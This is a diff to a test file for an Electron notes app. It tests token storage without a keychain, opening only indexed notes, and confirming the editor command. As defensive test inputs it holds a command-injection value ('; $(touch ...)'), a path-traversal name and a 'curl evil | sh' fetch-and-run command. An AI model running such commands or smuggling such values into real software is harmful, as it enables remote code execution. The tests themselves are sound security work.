@@ -6,7 +6,7 @@ import { ENGINE_METHOD_NAMES, ipcChannel, SHELL_METHOD_NAMES, type BrainMethodNa
 import { createRpcClient } from '../../../../electron/engine/rpc/rpc-client'
 import { ENGINE_PORT_CHANNEL, fromDomMessagePort } from '../../../../electron/engine/rpc/window-port'
 import { electronMock, FakeBrowserWindow, FakeTray, type FakeMessagePortMain } from '../../../support/electron-mock'
-import { runEngineServiceInForks, waitFor, type FakeEngine } from '../fake-engine-process'
+import { runEngineServiceInForks, waitFor, type EngineBehaviour, type FakeEngine } from '../fake-engine-process'
 
 vi.mock('electron', async () => (await import('../../../support/electron-mock')).electronModule)
 
@@ -15,13 +15,14 @@ const { GATEWAY_TOKEN_FILE } = await import('../../../../electron/main/secrets/g
 
 let dataDir: string
 let engines: FakeEngine[]
+let behaviour: EngineBehaviour
 let shell: InstanceType<typeof AppShell> | null
 const rendererDir = path.resolve('/app/out/renderer')
 let quitCalls = 0
 
 beforeEach(() => {
   electronMock.reset()
-  ;({ engines } = runEngineServiceInForks())
+  ;({ engines, behaviour } = runEngineServiceInForks())
   dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'notes-rag-shell-'))
   shell = null
   quitCalls = 0
@@ -135,7 +136,7 @@ describe('engine ports for windows', () => {
     expect(await fresh.search('round trip')).toEqual({ query: 'round trip' })
     expect(pushed).toEqual([])
     expect(electronMock.forks[1]!.posted.filter((post) => post.message.type === 'connect').map((post) => post.message)).toEqual([
-      { type: 'connect', name: 'main' },
+      { type: 'connect', name: 'main', main: true },
       { type: 'connect', name: `window-${chat.webContents.id}`, events: false },
       { type: 'connect', name: `window-${quick.webContents.id}`, events: false },
     ])
@@ -221,12 +222,26 @@ describe('shell methods', () => {
     await waitFor(() => engines[1]!.token === null)
   })
 
-  it('refuses to store a token when the keychain is unavailable', async () => {
+  it('without any keychain, asks; a cancelled question stores nothing', async () => {
     const { chat } = await startShell()
     electronMock.safeStorage.available = false
-    const result = await invoke(chat, 'setGatewayToken', 'abc')
-    expect(result).toMatchObject({ ok: false, error: { code: 'internal', message: expect.stringContaining('keychain') } })
+    expect(await invoke(chat, 'setGatewayToken', 'abc')).toEqual({ ok: true, value: false })
+    expect(electronMock.dialog.messages[0]).toMatchObject({ buttons: ['Keep for this session only', 'Cancel'] })
     expect(fs.existsSync(path.join(dataDir, GATEWAY_TOKEN_FILE))).toBe(false)
+  })
+
+  it("with Linux's fixed-key fallback (basic_text), warns and keeps the token for the session only when asked", async () => {
+    const { chat } = await startShell({ gateway: { baseUrl: 'https://llm.homelab.lan/v1' } })
+    electronMock.safeStorage.backend = 'basic_text'
+    electronMock.dialog.responses.push(0)
+    const expected = process.platform === 'linux'
+    expect(await invoke(chat, 'setGatewayToken', 'sk-session')).toEqual({ ok: true, value: true })
+    expect(electronMock.dialog.messages.length).toBe(expected ? 1 : 0)
+    if (!expected) return
+    expect(electronMock.dialog.messages[0]!.detail).toMatch(/fixed key/)
+    expect(fs.existsSync(path.join(dataDir, GATEWAY_TOKEN_FILE))).toBe(false)
+    await waitFor(() => engines[0]!.token === 'sk-session')
+    expect(await invoke(chat, 'hasGatewayToken')).toEqual({ ok: true, value: true })
   })
 
   it('registers the shortcut from settings and reports a failed registration', async () => {
@@ -274,10 +289,12 @@ describe('shell methods', () => {
     expect(electronMock.dialog.calls[1]![1]).toMatchObject({ properties: ['openDirectory', 'createDirectory'] })
   })
 
-  it('openNote runs the editor command without a shell, with {path} and {line}', async () => {
+  it('openNote runs the editor command without a shell, with {path} and {line}, for indexed notes only', async () => {
     const folder = path.join(dataDir, 'my notes')
     fs.mkdirSync(folder)
     fs.writeFileSync(path.join(folder, '2023-W14.md'), '# Week 14\n')
+    fs.writeFileSync(path.join(folder, 'not-indexed.md'), '# New\n')
+    behaviour.indexedNotes = ['2023-W14.md']
     const marker = path.join(dataDir, 'opened.json')
     const script = `require('fs').writeFileSync(${JSON.stringify(marker)}, JSON.stringify(process.argv.slice(1)))`
     // Shell syntax must reach the editor as plain words: a shell would run the `touch`.
@@ -286,22 +303,47 @@ describe('shell methods', () => {
     const { chat } = await startShell({ folder, ui: { editorCommand } })
     expect(await invoke(chat, 'openNote', '2023-W14.md', 7)).toEqual({ ok: true, value: true })
     await waitFor(() => fs.existsSync(marker) && fs.statSync(marker).size > 0, 30_000)
-    expect(JSON.parse(fs.readFileSync(marker, 'utf8'))).toEqual(['--goto', `${path.join(folder, '2023-W14.md')}:7`, ';', '$(touch', `${pwned})`])
+    expect(JSON.parse(fs.readFileSync(marker, 'utf8'))).toEqual(['--goto', `${fs.realpathSync(path.join(folder, '2023-W14.md'))}:7`, ';', '$(touch', `${pwned})`])
     expect(fs.existsSync(pwned)).toBe(false)
 
     expect(await invoke(chat, 'openNote', '../settings.json')).toMatchObject({ ok: false, error: { code: 'invalid-input' } })
     expect(await invoke(chat, 'openNote', 'gone.md')).toMatchObject({ ok: false, error: { code: 'file-vanished' } })
+    expect(await invoke(chat, 'openNote', 'not-indexed.md')).toMatchObject({ ok: false, error: { code: 'not-found' } })
+    expect(engines[0]!.calls.filter((call) => call.method === 'isIndexedNote').map((call) => call.args[0])).toEqual(['2023-W14.md', 'not-indexed.md'])
   })
 
-  it('openNote falls back to the OS default app', async () => {
+  it('openNote falls back to the OS default app for a text note', async () => {
     const folder = path.join(dataDir, 'logs')
     fs.mkdirSync(folder)
     fs.writeFileSync(path.join(folder, '2024-03-11.md'), 'standup\n')
+    behaviour.indexedNotes = ['2024-03-11.md']
     const { chat } = await startShell({ folder })
     expect(await invoke(chat, 'openNote', '2024-03-11.md')).toEqual({ ok: true, value: true })
-    expect(electronMock.shell.opened).toEqual([path.join(folder, '2024-03-11.md')])
+    expect(electronMock.shell.opened).toEqual([fs.realpathSync(path.join(folder, '2024-03-11.md'))])
     electronMock.shell.openPathResult = 'No application is associated'
     expect(await invoke(chat, 'openNote', '2024-03-11.md')).toMatchObject({ ok: false, error: { message: expect.stringContaining('No application') } })
+  })
+
+  it('a window cannot set the editor command through updateSettings; setEditorCommand asks first, then saves through main', async () => {
+    const { chat } = await startShell()
+    const refused = await invoke(chat, 'updateSettings', { ui: { editorCommand: '/bin/sh -c "curl evil | sh"' } })
+    expect(refused).toMatchObject({ ok: false, error: { code: 'invalid-input', message: expect.stringContaining('confirmation') } })
+    expect(engines[0]!.calls.some((call) => call.method === 'updateSettings')).toBe(false)
+
+    // Declined (or the dialog closed): nothing is saved.
+    expect(await invoke(chat, 'setEditorCommand', 'code -g {path}:{line}')).toEqual({ ok: true, value: false })
+    expect(electronMock.dialog.messages[0]).toMatchObject({ buttons: ['Cancel', 'Use this program'], defaultId: 0 })
+    expect(engines[0]!.calls.some((call) => call.method === 'setEditorCommand')).toBe(false)
+
+    electronMock.dialog.responses.push(1)
+    expect(await invoke(chat, 'setEditorCommand', 'code -g {path}:{line}')).toEqual({ ok: true, value: true })
+    expect(engines[0]!.calls.filter((call) => call.method === 'setEditorCommand')).toEqual([{ method: 'setEditorCommand', args: ['code -g {path}:{line}'] }])
+    expect(shell!.currentSettings.ui.editorCommand).toBe('code -g {path}:{line}')
+    // The whole ui section sent back unchanged is fine (the command is stripped before it reaches the engine).
+    const { ui } = shell!.currentSettings
+    const themed = await invoke(chat, 'updateSettings', { ui: { ...ui, theme: 'dark' } })
+    expect(themed.ok).toBe(false) // the fake engine has no updateSettings; what matters is what reached it
+    expect(engines[0]!.calls.find((call) => call.method === 'updateSettings')!.args[0]).toEqual({ ui: { theme: 'dark', quickSearchShortcut: ui.quickSearchShortcut, openAtLogin: ui.openAtLogin } })
   })
 })
 
